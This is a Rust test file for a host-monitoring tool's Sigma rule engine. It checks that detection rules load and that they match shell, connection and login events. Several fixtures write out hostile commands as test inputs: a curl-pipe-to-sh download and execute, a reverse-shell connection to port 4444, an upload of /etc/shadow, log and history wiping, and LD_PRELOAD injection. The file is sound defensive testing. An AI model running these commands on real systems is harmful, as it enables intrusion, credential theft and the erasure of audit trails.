use watchtower_model::{Body, Connect, Event, Exec, LoginAttempt, Outcome, Process, StoredEvent};

use super::*;
use crate::fields::Login;

fn stored(body: Body) -> StoredEvent {
    StoredEvent {
        event: Some(Event {
            host_id: "web-1".into(),
            boot_id: "b".into(),
            seq: 7,
            time_unix_ns: 1,
            body: Some(body),
        }),
        ..StoredEvent::default()
    }
}

fn exec(filename: &str, argv: &[&str]) -> StoredEvent {
    stored(Body::Exec(Exec {
        session: Some(0x11),
        session_user: Some("alice".into()),
        filename: filename.into(),
        argv: argv.iter().map(ToString::to_string).collect(),
        process: Some(Process {
            pid: 40,
            ppid: 39,
            uid: 0,
            comm: "sh".into(),
            ..Process::default()
        }),
        ..Exec::default()
    }))
}

const SHELL_BY_SUDO: &str = r"
title: A root shell inside a login
id: 2d1c4b1e-0000-4000-8000-000000000001
level: high
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        Image|endswith:
            - /bash
            - /sh
        UserId: 0
    condition: selection
";

#[test]
fn a_process_creation_rule_matches_execs_only_with_the_login_attached() {
    let rule = LoadedRule::parse("shell.yml", SHELL_BY_SUDO).unwrap();
    assert_eq!(rule.severity, Severity::Critical);
    let login = Login {
        user: "alice".into(),
        source: Some("198.51.100.7".into()),
        service: "sshd".into(),
        ..Login::default()
    };
    let shell = SigmaEvent::of(&exec("/usr/bin/bash", &["bash", "-i"]), Some(&login)).unwrap();
    assert!(rule.matches(&shell));
    assert_eq!(shell.session, Some(0x11));
    let other = SigmaEvent::of(&exec("/usr/bin/id", &["id"]), None).unwrap();
    assert!(!rule.matches(&other));
    // A connect from the same process is not a process_creation event.
    let connect = stored(Body::Connect(Connect {
        address: "/usr/bin/bash".into(),
        process: Some(Process::default()),
        ..Connect::default()
    }));
    assert!(!rule.matches(&SigmaEvent::of(&connect, None).unwrap()));
}

#[test]
fn fields_follow_sigmas_linux_names_and_carry_the_login() {
    let login = Login {
        user: "alice".into(),
        source: Some("198.51.100.7".into()),
        service: "sshd".into(),
        ..Login::default()
    };
    let yaml = r"
title: curl to a metadata address from an ssh login
logsource:
    category: network_connection
detection:
    selection:
        DestinationIp: 169.254.169.254
        DestinationPort: 80
        LoginSource|startswith: '198.51.100.'
        LoginService: sshd
        LogonId: '0000000000000011'
    condition: selection
";
    let rule = LoadedRule::parse("imds.yml", yaml).unwrap();
    let connect = stored(Body::Connect(Connect {
        session: Some(0x11),
        session_user: Some("alice".into()),
        family: "inet".into(),
        address: "169.254.169.254".into(),
        port: Some(80),
        ..Connect::default()
    }));
    assert!(rule.matches(&SigmaEvent::of(&connect, Some(&login)).unwrap()));
    assert!(
        !rule.matches(&SigmaEvent::of(&connect, None).unwrap()),
        "no login: LoginSource unset"
    );
    let cmd = SigmaEvent::of(&exec("/bin/echo", &["echo", "two words", "x"]), None).unwrap();
    let yaml = r#"
title: echo
logsource: { category: process_creation }
detection:
    selection:
        CommandLine: 'echo "two words" x'
        User: alice
        OriginalFileName: echo
    condition: selection
"#;
    assert!(LoadedRule::parse("echo.yml", yaml).unwrap().matches(&cmd));
}

#[test]
fn authentication_rules_see_logins_and_their_outcome() {
    let yaml = r"
title: failed root login over ssh
logsource: { product: linux, service: sshd }
detection:
    selection: { TargetUserName: root, Outcome: failure, Service: sshd }
    condition: selection
";
    let rule = LoadedRule::parse("root.yml", yaml).unwrap();
    let attempt = |outcome: Outcome| {
        stored(Body::LoginAttempt(LoginAttempt {
            service: "sshd".into(),
            user: "root".into(),
            remote_host: Some("203.0.113.9".into()),
            outcome,
            ..LoginAttempt::default()
        }))
    };
    assert!(rule.matches(&SigmaEvent::of(&attempt(Outcome::Failure), None).unwrap()));
    assert!(!rule.matches(&SigmaEvent::of(&attempt(Outcome::Success), None).unwrap()));
}

#[test]
fn a_directory_loads_every_rule_that_parses_and_names_each_that_does_not() {
    let dir = std::env::temp_dir().join(format!("wt-sigma-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("shell.yml"), SHELL_BY_SUDO).unwrap();
    std::fs::write(dir.join("broken.yml"), "title: [unclosed\n").unwrap();
    std::fs::write(
        dir.join("windows.yaml"),
        "title: w\nlogsource: { product: windows }\ndetection: { s: { a: 1 }, condition: s }\n",
    )
    .unwrap();
    std::fs::write(dir.join("notes.txt"), "not a rule").unwrap();
    let (set, errors) = RuleSet::load(&dir).unwrap();
    assert_eq!(set.rules.len(), 1);
    assert_eq!(set.rules[0].file, "shell.yml");
    let failed: Vec<_> = errors.iter().map(|e| e.file.as_str()).collect();
    assert_eq!(failed, vec!["broken.yml", "windows.yaml"]);
    assert!(!set.changed(&dir));
    std::thread::sleep(std::time::Duration::from_millis(20));
    std::fs::write(
        dir.join("broken.yml"),
        SHELL_BY_SUDO.replace("title: A", "title: B"),
    )
    .unwrap();
    assert!(set.changed(&dir));
    let (set, errors) = RuleSet::load(&dir).unwrap();
    assert_eq!((set.rules.len(), errors.len()), (2, 1));
    std::fs::remove_dir_all(&dir).unwrap();
}

/// The starter rules shipped in packaging/sigma, and what each is for.
fn starter_rules() -> RuleSet {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../packaging/sigma");
    let (set, errors) = RuleSet::load(&dir).unwrap();
    assert_eq!(errors, vec![], "every starter rule loads");
    assert_eq!(set.rules.len(), 6);
    set
}

fn titles<'a>(set: &'a RuleSet, event: &'a SigmaEvent) -> Vec<&'a str> {
    set.matching(event).map(|r| r.file.as_str()).collect()
}

fn in_login(session_service: &str, session_user: &str) -> Login {
    Login {
        user: "alice".into(),
        source: Some("198.51.100.7".into()),
        service: "sshd".into(),
        session_service: session_service.into(),
        session_user: session_user.into(),
    }
}

#[test]
fn each_starter_rule_fires_on_what_it_describes_and_not_on_the_ordinary() {
    let set = starter_rules();
    let sshd = in_login("sshd", "alice");
    let sudo = in_login("sudo", "root");
    let exec_in =
        |login: &Login, file: &str, argv: &[&str]| SigmaEvent::of(&exec(file, argv), Some(login)).unwrap();
    let connect_in = |login: &Login, comm: &str, family: &str, address: &str, port: u32| {
        let stored = stored(Body::Connect(Connect {
            session: Some(0x11),
            family: family.into(),
            address: address.into(),
            port: Some(port),
            process: Some(Process {
                comm: comm.into(),
                ..Process::default()
            }),
            ..Connect::default()
        }));
        SigmaEvent::of(&stored, Some(login)).unwrap()
    };
    let cases: Vec<(SigmaEvent, Vec<&str>)> = vec![
        (
            exec_in(&sudo, "/usr/bin/bash", &["bash"]),
            vec!["shell-by-sudo-or-su.yml"],
        ),
        (exec_in(&sshd, "/usr/bin/bash", &["bash"]), vec![]),
        (
            exec_in(&sudo, "/usr/bin/systemctl", &["systemctl", "restart", "nginx"]),
            vec![],
        ),
        (
            exec_in(&sshd, "/usr/bin/env", &["env", "LD_PRELOAD=/tmp/x.so", "id"]),
            vec!["ld-preload-on-exec.yml"],
        ),
        (
            exec_in(
                &sshd,
                "/usr/bin/truncate",
                &["truncate", "-s0", "/home/alice/.bash_history"],
            ),
            vec!["history-or-logs-truncated.yml"],
        ),
        (
            exec_in(&sshd, "/usr/bin/rm", &["rm", "-f", "/var/log/auth.log"]),
            vec!["history-or-logs-truncated.yml"],
        ),
        (exec_in(&sshd, "/usr/bin/rm", &["rm", "notes.txt"]), vec![]),
        (
            exec_in(
                &sshd,
                "/usr/bin/sh",
                &["sh", "-c", "curl -fsSL http://203.0.113.9/i | sh"],
            ),
            vec!["download-and-execute.yml"],
        ),
        (
            exec_in(
                &sshd,
                "/usr/bin/curl",
                &["curl", "-o", "x", "http://203.0.113.9/"],
            ),
            vec![],
        ),
        (
            connect_in(&sshd, "bash", "inet", "203.0.113.9", 4444),
            vec!["reverse-shell.yml", "ssh-login-outbound-uncommon-port.yml"],
        ),
        (connect_in(&sshd, "bash", "unix", "/run/nscd/socket", 0), vec![]),
        (connect_in(&sshd, "curl", "inet", "203.0.113.9", 443), vec![]),
        (connect_in(&sshd, "curl", "inet", "127.0.0.1", 5432), vec![]),
        (
            connect_in(&sshd, "psql", "inet", "10.0.0.5", 5432),
            vec!["ssh-login-outbound-uncommon-port.yml"],
        ),
    ];
    for (event, expected) in &cases {
        let mut got = titles(&set, event);
        got.sort_unstable();
        assert_eq!(&got, expected, "{:?}", event.fields);
    }
}

/// A rule as `SigmaHQ` writes them (related, references, modified, fields,
/// falsepositives, tags, modifiers and a compound condition) loads unchanged.
#[test]
fn rules_in_the_upstream_sigmahq_style_load_unchanged() {
    let yaml = r"
title: Suspicious Curl File Upload - Linux
id: 00bca14a-df4e-4649-9054-3f2aa676bc04
related:
    - id: 00b90cc1-17ec-402c-96ad-3a8117d7a582
      type: derived
status: test
description: Detects a suspicious curl process start the adds a file to a web request
references:
    - https://twitter.com/d1r4c/status/1279042657508081664
author: Nasreddine Bencherchali (Nextron Systems)
date: 2022-09-15
modified: 2023-05-02
tags:
    - attack.exfiltration
    - attack.t1567
    - attack.t1105
logsource:
    category: process_creation
    product: linux
detection:
    selection_img:
        Image|endswith: '/curl'
    selection_cli:
        - CommandLine|contains:
              - ' --form'
              - ' --upload-file '
              - ' --data '
              - ' --data-'
        - CommandLine|re: '\s-[FTd]\s'
    filter_optional_localhost:
        CommandLine|contains:
            - '://localhost'
            - '://127.0.0.1'
    condition: all of selection_* and not 1 of filter_optional_*
falsepositives:
    - Scripts created by developers and admins
fields:
    - CommandLine
    - ParentImage
level: medium
";
    let rule = LoadedRule::parse("curl-upload.yml", yaml).unwrap();
    assert_eq!(rule.severity, Severity::Warning);
    let upload = SigmaEvent::of(
        &exec(
            "/usr/bin/curl",
            &["curl", "-F", "f=@/etc/shadow", "http://203.0.113.9/"],
        ),
        None,
    )
    .unwrap();
    assert!(rule.matches(&upload));
    let local = SigmaEvent::of(
        &exec("/usr/bin/curl", &["curl", "--data", "x", "http://127.0.0.1/"]),
        None,
    )
    .unwrap();
    assert!(!rule.matches(&local));
}
